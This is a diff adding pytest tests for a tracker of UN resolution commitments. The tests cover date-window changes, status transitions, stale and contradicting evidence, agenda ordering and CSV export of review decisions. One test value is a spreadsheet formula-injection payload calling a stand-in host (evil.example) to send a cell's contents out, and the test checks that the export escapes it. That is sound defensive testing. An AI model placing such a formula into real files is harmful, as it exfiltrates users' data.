@@ -1,0 +1,538 @@
+"""What changed between two dates, the meeting agenda and the decisions table, on the canonical
+fixture and on small datasets built from it by hand."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tracker.analysis import Pair
+from tracker.loader import load_dataset
+from tracker.model import Assessment, Commitment, Dataset, Direction, Evidence, Review, Text
+from tracker.review import (
+    DECISION_COLUMNS,
+    DEFAULT_WINDOW_DAYS,
+    AgendaItem,
+    Reason,
+    agenda,
+    changes_between,
+    decisions_csv,
+    decisions_table,
+    default_start,
+    partial_date_end,
+    reorder,
+)
+
+REPO = Path(__file__).resolve().parent.parent
+MINI = REPO / "tests" / "fixtures" / "mini.yaml"
+TODAY = dt.date(2026, 11, 26)
+OP4 = "A/RES/58/50:OP4"
+OP10 = "A/RES/58/50:OP10"
+BOM = b"\xef\xbb\xbf"
+
+
+def load(path: Path) -> Dataset:
+    result = load_dataset(path, today=TODAY)
+    assert result.dataset is not None, [str(p) for p in result.problems]
+    return result.dataset
+
+
+DATA = load(MINI)
+BUNDLED = load(REPO / "commitments.yaml")
+
+
+def day(text: str) -> dt.date:
+    return dt.date.fromisoformat(text)
+
+
+def judgement(
+    date: str,
+    status: str,
+    *,
+    actor: str = "RUS",
+    commitment: str = OP4,
+    evidence: Sequence[str] = (),
+    review: str | None = None,
+) -> Assessment:
+    return Assessment(
+        id=f"AS-{commitment.rsplit(':', 1)[-1]}-{actor}-{date}-{status}",
+        commitment=commitment,
+        actor=actor,
+        date=day(date),
+        status=status,
+        rationale=Text(en="A test judgement.", zh="测试用的判断。"),
+        evidence=tuple(evidence),
+        assessor="test",
+        confidence="medium",
+        review=review,
+    )
+
+
+def item(
+    ref: str,
+    date: str,
+    direction: Direction,
+    *,
+    actors: Sequence[str] = ("RUS",),
+    commitments: Sequence[str] = (OP4,),
+) -> Evidence:
+    return DATA.evidence[0].model_copy(
+        update={
+            "id": ref,
+            "date": date,
+            "direction": direction,
+            "actors": tuple(actors),
+            "commitments": tuple(commitments),
+        }
+    )
+
+
+def dataset(
+    assessments: Sequence[Assessment] = (),
+    evidence: Sequence[Evidence] = (),
+    commitments: Sequence[Commitment] | None = None,
+    reviews: Sequence[Review] = (),
+) -> Dataset:
+    """The fixture's methodology, actors and commitments with only the records given."""
+    return DATA.model_copy(
+        update={
+            "assessments": tuple(assessments),
+            "evidence": tuple(evidence),
+            "commitments": DATA.commitments if commitments is None else tuple(commitments),
+            "reviews": tuple(reviews),
+        }
+    )
+
+
+# --- new assessments and their transitions -----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("statuses", "transition", "previous"),
+    [
+        (["no_progress"], "first", None),
+        (["no_progress", "regressing"], "worsened", "no_progress"),
+        (["regressing", "limited_progress"], "improved", "regressing"),
+        (["limited_progress", "limited_progress"], "same", "limited_progress"),
+        (["limited_progress", "not_assessed"], "unassessed", "limited_progress"),
+        # 'Not yet assessed' is no judgement: the move is measured against the one before it.
+        (["fulfilled", "not_assessed", "no_progress"], "worsened", "fulfilled"),
+        (["not_assessed", "regressing"], "first", None),
+    ],
+)
+def test_a_new_assessment_moves_against_the_previous_judgement(
+    statuses: list[str], transition: str, previous: str | None
+) -> None:
+    """The last assessment, the only one dated in the window, gets the transition
+    `analysis.transitions` gives it in the pair's history, and the status of the judgement
+    before it."""
+    years = range(2020 - len(statuses) + 1, 2021)
+    data = dataset([judgement(f"{y}-05-01", s) for y, s in zip(years, statuses, strict=True)])
+    changes = changes_between(data, day("2020-01-01"), day("2020-12-31"))
+    [new] = changes.assessments
+    assert (new.transition, new.previous_status) == (transition, previous)
+    assert new.pair == Pair(OP4, "RUS")
+
+
+@pytest.mark.parametrize(
+    ("date", "is_new"),
+    [("2020-01-01", False), ("2020-01-02", True), ("2020-12-31", True), ("2021-01-01", False)],
+)
+def test_the_window_excludes_its_first_day_and_includes_its_last(date: str, is_new: bool) -> None:
+    """A review's own decisions (dated on the day the window starts) are not new again."""
+    data = dataset([judgement(date, "no_progress")])
+    changes = changes_between(data, day("2020-01-01"), day("2020-12-31"))
+    assert bool(changes.assessments) is is_new
+
+
+def test_changes_on_the_fixture() -> None:
+    """2023 on the fixture: Russia's OP4 judgement worsened, with the deployment to Belarus as
+    new evidence; both OP4 judgements rest on evidence over a year old at the end of 2024."""
+    changes = changes_between(DATA, day("2023-01-01"), day("2024-12-31"))
+    [new] = changes.assessments
+    assert (new.assessment.id, new.transition, new.previous_status) == (
+        "AS-OP4-RUS-2023-06-16",
+        "worsened",
+        "no_progress",
+    )
+    assert [e.id for e in changes.evidence] == ["E40"]
+    assert {(s.pair.actor, s.newest_evidence) for s in changes.stale} == {
+        ("RUS", day("2023-06-16")),
+        ("USA", day("2003-12-08")),
+    }
+    assert changes.contradictions == ()
+    assert changes.counts == {
+        "assessments": 1,
+        "worsened": 1,
+        "improved": 0,
+        "first": 0,
+        "same": 0,
+        "unassessed": 0,
+        "evidence": 1,
+        "stale": 2,
+        "contradictions": 0,
+    }
+
+
+def test_a_window_that_ends_before_it_starts_is_refused() -> None:
+    with pytest.raises(ValueError, match="starts"):
+        changes_between(DATA, day("2024-01-02"), day("2024-01-01"))
+
+
+# --- new evidence: dated in the window ---------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("date", "start", "end", "is_new"),
+    [
+        ("2024-06-15", "2024-06-14", "2024-06-30", True),
+        ("2024-06-15", "2024-06-15", "2024-06-30", False),
+        # A month or a year overlaps the window: new, even if its first day is before it.
+        ("2024-06", "2024-06-10", "2024-12-31", True),
+        ("2024-06", "2024-06-30", "2024-12-31", False),
+        ("2024", "2024-11-01", "2025-03-01", True),
+        ("2024", "2023-01-01", "2023-12-31", False),
+        ("2025", "2024-01-01", "2024-12-31", False),
+    ],
+)
+def test_new_evidence_is_evidence_dated_in_the_window(
+    date: str, start: str, end: str, is_new: bool
+) -> None:
+    data = dataset(evidence=[item("E99", date, Direction.NEUTRAL)])
+    changes = changes_between(data, day(start), day(end))
+    assert [e.id for e in changes.evidence] == (["E99"] if is_new else [])
+
+
+@pytest.mark.parametrize(
+    ("value", "last_day"),
+    [
+        ("2024-02", "2024-02-29"),
+        ("2023-02", "2023-02-28"),
+        ("2024", "2024-12-31"),
+        ("2024-06-15", "2024-06-15"),
+    ],
+)
+def test_partial_date_end_is_the_last_day_it_can_mean(value: str, last_day: str) -> None:
+    assert partial_date_end(value) == day(last_day)
+
+
+# --- stale -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("threshold", "stale"), [(365, True), (366, False), (0, True)])
+def test_stale_means_newest_cited_evidence_older_than_the_threshold(
+    threshold: int, stale: bool
+) -> None:
+    """On 2024-06-16 Russia's OP4 judgement rests on evidence 366 days old."""
+    changes = changes_between(DATA, day("2024-01-01"), day("2024-06-16"), threshold)
+    russia = [s for s in changes.stale if s.pair == Pair(OP4, "RUS")]
+    assert bool(russia) is stale
+    if stale:
+        assert (russia[0].days, russia[0].status) == (366, "regressing")
+
+
+def test_a_judgement_citing_no_evidence_is_never_stale() -> None:
+    """The fixture's OP10 assessment cites nothing: there is no evidence to be old."""
+    changes = changes_between(DATA, day("2024-01-01"), TODAY, stale_after_days=0)
+    assert Pair(OP10, "UNGA") not in {s.pair for s in changes.stale}
+
+
+# --- contradictions ----------------------------------------------------------------------
+
+LATER = "2024-03-01"
+
+
+@pytest.mark.parametrize(
+    ("status", "direction", "contradicts"),
+    [
+        ("limited_progress", Direction.REGRESSION, True),
+        ("substantial_progress", Direction.REGRESSION, True),
+        ("fulfilled", Direction.REGRESSION, True),
+        ("regressing", Direction.PROGRESS, True),
+        ("no_progress", Direction.PROGRESS, True),
+        ("limited_progress", Direction.PROGRESS, False),
+        ("regressing", Direction.REGRESSION, False),
+        ("no_progress", Direction.REGRESSION, False),
+        ("limited_progress", Direction.MIXED, False),
+        ("regressing", Direction.NEUTRAL, False),
+        ("not_assessed", Direction.PROGRESS, False),
+        ("not_assessed", Direction.REGRESSION, False),
+    ],
+)
+def test_contradiction_is_evidence_against_the_direction_of_the_status(
+    status: str, direction: Direction, contradicts: bool
+) -> None:
+    data = dataset([judgement("2024-01-01", status)], [item("E99", LATER, direction)])
+    changes = changes_between(data, day("2024-01-01"), day("2024-12-31"))
+    assert [c.evidence.id for c in changes.contradictions] == (["E99"] if contradicts else [])
+
+
+@pytest.mark.parametrize(
+    ("evidence", "cited", "why"),
+    [
+        (item("E99", "2023-12-31", Direction.REGRESSION), False, "dated before the judgement"),
+        (item("E99", "2025-01-01", Direction.REGRESSION), False, "dated after the window"),
+        (item("E99", LATER, Direction.REGRESSION), True, "cited by the judgement"),
+        (item("E99", LATER, Direction.REGRESSION, actors=["USA"]), False, "about another actor"),
+        (
+            item("E99", LATER, Direction.REGRESSION, commitments=[OP10]),
+            False,
+            "about another paragraph",
+        ),
+    ],
+)
+def test_evidence_that_cannot_contradict(evidence: Evidence, cited: bool, why: str) -> None:
+    cites = ["E99"] if cited else []
+    data = dataset([judgement("2024-01-01", "limited_progress", evidence=cites)], [evidence])
+    changes = changes_between(data, day("2024-01-01"), day("2024-12-31"))
+    assert changes.contradictions == (), why
+
+
+def test_a_month_that_may_follow_the_judgement_contradicts_it() -> None:
+    """'2024-01' may be any day of January: it may postdate a judgement of 2024-01-15."""
+    data = dataset(
+        [judgement("2024-01-15", "limited_progress")],
+        [item("E99", "2024-01", Direction.REGRESSION)],
+    )
+    assert len(changes_between(data, day("2024-01-15"), day("2024-12-31")).contradictions) == 1
+
+
+def test_only_the_judgement_in_force_is_checked() -> None:
+    """Regression evidence after a progress judgement no longer contradicts once a later
+    judgement of regression is in force."""
+    data = dataset(
+        [judgement("2024-01-01", "limited_progress"), judgement("2024-06-01", "regressing")],
+        [item("E99", LATER, Direction.REGRESSION)],
+    )
+    assert changes_between(data, day("2024-01-01"), day("2024-12-31")).contradictions == ()
+    earlier = changes_between(data, day("2024-01-01"), day("2024-05-01"))
+    assert [c.assessment.status for c in earlier.contradictions] == ["limited_progress"]
+
+
+def test_status_ids_and_order_come_from_the_methodology() -> None:
+    """Renamed status ids still contradict: nothing but 'not assessed' is known by its id."""
+    statuses = tuple(
+        level.model_copy(update={"id": f"level_{level.order}"})
+        if level.id != "not_assessed"
+        else level
+        for level in DATA.methodology.statuses
+    )
+    method = DATA.methodology.model_copy(update={"statuses": statuses})
+    data = dataset(
+        [judgement("2024-01-01", "level_3"), judgement("2024-01-01", "level_1", actor="USA")],
+        [
+            item("E98", LATER, Direction.REGRESSION),
+            item("E99", LATER, Direction.PROGRESS, actors=["USA"]),
+        ],
+    ).model_copy(update={"methodology": method})
+    changes = changes_between(data, day("2023-12-31"), day("2024-12-31"))
+    assert {(c.pair.actor, c.evidence.id) for c in changes.contradictions} == {
+        ("RUS", "E98"),
+        ("USA", "E99"),
+    }
+    assert [n.transition for n in changes.assessments] == ["first", "first"]
+
+
+# --- the agenda --------------------------------------------------------------------------
+
+
+def commitment(paragraph: int, actors: Sequence[str] = ("RUS", "USA")) -> Commitment:
+    base = DATA.commitments[0]
+    addressed = base.addressed.model_copy(update={"actors": tuple(actors)})
+    return base.model_copy(
+        update={"id": f"A/RES/58/50:OP{paragraph}", "paragraph": paragraph, "addressed": addressed}
+    )
+
+
+def meeting_data() -> Dataset:
+    """In the window (2024-03-01, 2024-12-31]: OP1 improved, OP2 stale, OP3 contradicted by
+    new evidence, OP5 worsened (and stale), OP6 new evidence only, OP7 nothing new."""
+    ops = {n: f"A/RES/58/50:OP{n}" for n in range(1, 8)}
+    return dataset(
+        [
+            judgement("2023-01-01", "regressing", commitment=ops[1]),
+            judgement("2024-05-01", "limited_progress", commitment=ops[1], evidence=["E10"]),
+            judgement("2023-06-01", "no_progress", commitment=ops[2], evidence=["E01"]),
+            judgement("2024-03-01", "limited_progress", commitment=ops[3], evidence=["E10"]),
+            judgement("2023-06-01", "limited_progress", commitment=ops[5], evidence=["E01"]),
+            judgement("2024-05-01", "regressing", commitment=ops[5], evidence=["E01"]),
+            judgement("2024-03-01", "limited_progress", commitment=ops[7], evidence=["E10"]),
+        ],
+        [
+            item("E01", "2003-12-08", Direction.NEUTRAL, commitments=[ops[2], ops[5]]),
+            item("E10", "2024-02-01", Direction.PROGRESS, commitments=[ops[1], ops[3], ops[7]]),
+            item("E20", "2024-09-01", Direction.REGRESSION, commitments=[ops[3]]),
+            item("E30", "2024-04-01", Direction.NEUTRAL, actors=["BLR"], commitments=[ops[6]]),
+        ],
+        commitments=[commitment(n) for n in (7, 6, 5, 3, 2, 1)],
+    )
+
+
+MEETING = (day("2024-03-01"), day("2024-12-31"))
+
+
+def test_agenda_order_worsened_contradicted_stale_then_the_rest() -> None:
+    data = meeting_data()
+    changes = changes_between(data, *MEETING, stale_after_days=365)
+    items = agenda(changes, data)
+    assert [(i.commitment.rsplit(":", 1)[1], i.reasons) for i in items] == [
+        ("OP5", (Reason.WORSENED, Reason.STALE)),
+        ("OP3", (Reason.CONTRADICTED, Reason.NEW_EVIDENCE)),
+        ("OP2", (Reason.STALE,)),
+        ("OP1", (Reason.IMPROVED,)),
+        ("OP6", (Reason.NEW_EVIDENCE,)),
+        ("OP7", ()),
+    ]
+    assert [i.rank for i in items] == [0, 1, 2, 3, 3, 4]
+
+
+def test_agenda_items_name_their_pairs_and_records() -> None:
+    data = meeting_data()
+    by_id = {i.commitment: i for i in agenda(changes_between(data, *MEETING), data)}
+    op3 = by_id["A/RES/58/50:OP3"]
+    assert op3.pairs == (Pair("A/RES/58/50:OP3", "RUS"),)
+    assert [(f.reason, f.actor, f.record) for f in op3.findings] == [
+        (Reason.CONTRADICTED, "RUS", "E20"),
+        (Reason.NEW_EVIDENCE, "RUS", "E20"),
+    ]
+    # Evidence about an actor the paragraph does not address: a finding with no pair.
+    op6 = by_id["A/RES/58/50:OP6"]
+    assert [(f.actor, f.record) for f in op6.findings] == [(None, "E30")]
+    assert op6.pairs == ()
+
+
+def test_every_commitment_is_on_the_agenda_once() -> None:
+    changes = changes_between(BUNDLED, day("2026-01-01"), TODAY)
+    items = agenda(changes, BUNDLED)
+    assert sorted(i.commitment for i in items) == sorted(c.id for c in BUNDLED.commitments)
+
+
+def items_of(*ids: str) -> list[AgendaItem]:
+    return [AgendaItem(ref, ()) for ref in ids]
+
+
+@pytest.mark.parametrize(
+    ("order", "expected"),
+    [
+        (["C", "A", "B"], ["C", "A", "B"]),
+        (["B"], ["B", "A", "C"]),
+        ([], ["A", "B", "C"]),
+    ],
+)
+def test_reorder_puts_the_given_ids_first(order: list[str], expected: list[str]) -> None:
+    assert [i.commitment for i in reorder(items_of("A", "B", "C"), order)] == expected
+
+
+@pytest.mark.parametrize("order", [["A", "X"], ["A", "A"]])
+def test_reorder_refuses_unknown_or_repeated_ids(order: list[str]) -> None:
+    with pytest.raises(ValueError):
+        reorder(items_of("A", "B"), order)
+
+
+# --- default start -----------------------------------------------------------------------
+
+
+def meeting(review_id: str, date: str, decisions: Sequence[str] = ()) -> Review:
+    return Review(
+        id=review_id,
+        date=day(date),
+        title=Text(en="Quarterly review", zh="季度审议"),
+        participants=("A. Analyst", "B. 分析员"),
+        decisions=tuple(decisions),
+    )
+
+
+@pytest.mark.parametrize(
+    ("reviews", "today", "start"),
+    [
+        ([], "2026-11-26", str(day("2026-11-26") - dt.timedelta(days=DEFAULT_WINDOW_DAYS))),
+        (["2026-03-01", "2026-06-01"], "2026-11-26", "2026-06-01"),
+        # A review held today is the meeting in progress: its window runs from the last one.
+        (["2026-06-01", "2026-11-26"], "2026-11-26", "2026-06-01"),
+        (["2026-11-26"], "2026-11-26", "2026-08-27"),
+    ],
+)
+def test_default_start_is_the_last_review(reviews: list[str], today: str, start: str) -> None:
+    data = dataset(reviews=[meeting(f"R{n}", date) for n, date in enumerate(reviews)])
+    assert default_start(data, day(today)) == day(start)
+
+
+# --- decisions ---------------------------------------------------------------------------
+
+PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def decided_data() -> Dataset:
+    first = judgement("2023-01-01", "limited_progress")
+    decided = judgement("2024-06-01", "regressing", review="R1", evidence=["E01", "E40"])
+    decided = decided.model_copy(
+        update={"rationale": Text(en=PAYLOAD, zh="部署到白俄罗斯，而非谈判。"), "assessor": "@me"}
+    )
+    return dataset([first, decided], reviews=[meeting("R1", "2024-06-01", [decided.id])])
+
+
+def test_decisions_table_has_one_row_per_decision() -> None:
+    data = decided_data()
+    table = decisions_table(data, "R1")
+    assert list(table.columns) == list(DECISION_COLUMNS)
+    [row] = table.to_dict("records")
+    assert row["transition"] == "worsened"
+    assert row["previous_status"] == "limited_progress"
+    assert (row["status_label_en"], row["status_label_zh"]) == ("Regressing", "倒退")
+    assert row["evidence_ids"] == "E01;E40"
+    assert row["paragraph"] == 4
+
+
+def test_decisions_csv_is_excel_safe_utf8_with_bom() -> None:
+    """Excel reads the Chinese (BOM) and runs no formula (a leading apostrophe)."""
+    raw = decisions_csv(decided_data(), "R1")
+    assert raw.startswith(BOM)
+    rows = list(csv.DictReader(io.StringIO(raw[len(BOM) :].decode("utf-8"))))
+    [row] = rows
+    assert row["rationale_en"] == "'" + PAYLOAD
+    assert row["assessor"] == "'@me"
+    assert row["rationale_zh"] == "部署到白俄罗斯，而非谈判。"
+    assert row["status_label_zh"] == "倒退"
+    assert row["review_date"] == "2024-06-01"
+    assert b"\r\n" in raw
+
+
+def test_a_review_with_no_decisions_gives_the_header_only() -> None:
+    data = dataset(reviews=[meeting("R0", "2024-01-01")])
+    assert decisions_table(data, "R0").empty
+    assert decisions_csv(data, "R0") == BOM + (",".join(DECISION_COLUMNS) + "\r\n").encode()
+
+
+def test_an_unknown_review_is_a_key_error() -> None:
+    with pytest.raises(KeyError):
+        decisions_table(DATA, "no-such-review")
+
+
+# --- invariants on the bundled data ------------------------------------------------------
+
+START = day("2003-12-01")
+
+
+@settings(max_examples=30, deadline=None)
+@given(
+    st.dates(min_value=START, max_value=TODAY),
+    st.dates(min_value=START, max_value=TODAY),
+    st.integers(min_value=0, max_value=4000),
+)
+def test_counts_add_up(first: dt.date, second: dt.date, threshold: int) -> None:
+    """The transitions of the new assessments sum to their number, and every new assessment
+    lies in the window."""
+    start, end = sorted((first, second))
+    changes = changes_between(BUNDLED, start, end, threshold)
+    counts = changes.counts
+    moves = ("worsened", "improved", "first", "same", "unassessed")
+    assert sum(counts[key] for key in moves) == counts["assessments"]
+    assert all(start < n.assessment.date <= end for n in changes.assessments)
+    assert all(s.days > threshold for s in changes.stale)
